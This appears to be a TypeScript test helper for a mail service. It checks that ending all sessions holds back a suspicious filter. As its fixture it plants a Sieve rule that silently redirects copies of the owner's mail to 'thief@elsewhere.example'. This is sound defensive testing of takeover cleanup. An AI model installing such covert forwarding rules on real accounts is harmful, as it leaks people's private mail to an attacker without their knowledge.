// Filters of a mailbox that wait for their owner.
import type { MemoryPlatform } from '#server/mail/mail-platform/memory/memory.ts'
import { eventually, type TestPortal } from '../portal.ts'
import type { Visitor } from '../visitor.ts'

/** One that the owner's own "end all sessions" has switched off and that has been read. */
export async function holdFilter<
  T extends { readonly accountId: string; readonly visitor: Visitor },
>(portal: TestPortal, platform: MemoryPlatform, owner: T): Promise<T & { readonly id: string }> {
  const { db } = portal
  const { accountId: account_id, visitor } = owner
  const { address } = await eventually(() =>
    db('mailboxes').where({ account_id }).whereRaw('applied_revision >= revision').first(),
  )
  const text = 'require "copy";\r\nredirect :copy "thief@elsewhere.example";\r\n'
  platform.putFilter(address, { name: 'main', text })
  await visitor.post('/account/sessions/end-others', {}, { from: '/account/password' })
  const held = () => db('held_filters').where({ account_id }).whereNotNull('read_at').first('id')
  const { id } = await eventually(held)
  return { ...owner, id: String(id) }
}
